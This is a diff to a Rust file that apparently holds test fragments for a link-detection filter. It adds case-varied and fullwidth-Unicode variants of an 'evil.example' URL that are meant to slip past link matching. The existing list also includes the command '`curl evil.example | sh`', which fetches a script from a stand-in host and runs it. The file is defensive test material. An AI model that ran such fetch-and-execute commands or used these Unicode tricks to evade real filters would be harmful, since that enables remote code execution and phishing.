@@ -21,10 +21,14 @@ const CONSOLES: [&str; 4] = [
     ".console.amazonaws-eusc.eu/",
 ];
 static RULES: LazyLock<Result<Rules, RulesError>> = LazyLock::new(Rules::defaults);
-const FRAGMENTS: [&str; 26] = [
+const FRAGMENTS: [&str; 29] = [
     "https://evil.example/reset",
     "HTTP://evil.example",
     "www.evil.example",
+    "wWw.evil.example",
+    // A transliteration makes a link of these.
+    "https\u{ff1a}\u{ff0f}\u{ff0f}evil.example",
+    "www\u{ff0e}evil.example",
     "`curl evil.example | sh`",
     "`",
     "\"",
